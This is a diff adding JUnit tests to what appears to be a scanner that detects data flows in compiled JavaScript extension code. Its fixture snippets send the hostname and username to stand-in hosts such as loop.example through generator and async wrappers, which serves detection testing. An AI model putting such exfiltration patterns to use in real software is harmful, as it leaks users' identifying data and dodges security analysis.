@@ -2,6 +2,7 @@ package dev.vsxray.scanner.javascript.flow;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.vsxray.scanner.model.Feature;
 import org.junit.jupiter.api.Test;
 
 /** Async functions and generators as compilers write them for engines that have neither: a switch over labels. */
@@ -256,5 +257,65 @@ class CompiledGeneratorsTest {
                 """);
 
         assertThat(analysis.flowNames()).containsExactly("account-identity -> network-send");
+    }
+
+    @Test
+    void aLoopThatAsksAGeneratorByHandGetsWhatItYields() {
+        Analysis analysis = Analysis.ofActivate(HELPERS + """
+                function names() {
+                  return generator(this, function (s) {
+                    switch (s.label) {
+                      case 0: return [4, os.hostname()];
+                      case 1: s.sent(); return [2];
+                    }
+                  });
+                }
+                for (var all = names(), step = all.next(); !step.done; step = all.next()) fetch('https://loop.example/' + step.value);
+                function* written() { yield os.userInfo().username; }
+                const { value } = written().next();
+                fetch('https://one.example/' + value);
+                """);
+
+        assertThat(analysis.flows("account-identity", "network-url"))
+                .flatExtracting(Feature.Flow::destinations)
+                .containsExactlyInAnyOrder("https://loop.example/…", "https://one.example/…");
+    }
+
+    @Test
+    void whatIsAwaitedIsNotWhatAnAsyncFunctionGives() {
+        Analysis analysis = typescript("""
+                return generator(this, function (s) {
+                  switch (s.label) {
+                    case 0: return [4, os.hostname()];
+                    case 1: s.sent(); return [2, 'done'];
+                  }
+                });
+                }).then(function (given) { fetch('https://given.example/' + given);
+                """);
+
+        assertThat(analysis.flowNames()).isEmpty();
+    }
+
+    @Test
+    void followsAsynchronousGeneratorsOfBabelAndSwc() {
+        Analysis analysis = Analysis.ofActivate("""
+                function Queued(gen) {
+                  function resume(key, arg) {
+                    var result = gen[key](arg), value = result.value;
+                    Promise.resolve(value instanceof Held ? value.v : value).then(
+                        function (arg) { settle(result.done ? 'return' : 'normal', arg); },
+                        function (err) { resume('throw', err); });
+                  }
+                  this._invoke = function (key, arg) { return new Promise(function (resolve) { enqueue(resolve); resume(key, arg); }); };
+                }
+                Queued.prototype[Symbol.asyncIterator] = function () { return this; };
+                Queued.prototype.next = function (arg) { return this._invoke('next', arg); };
+                function Held(value) { this.v = value; }
+                const wrap = made => function () { return new Queued(made.apply(this, arguments)); };
+                const names = wrap(function* () { yield os.hostname(); });
+                (async () => { for await (const name of names()) fetch('https://queue.example/' + name); })();
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("account-identity -> network-url");
     }
 }
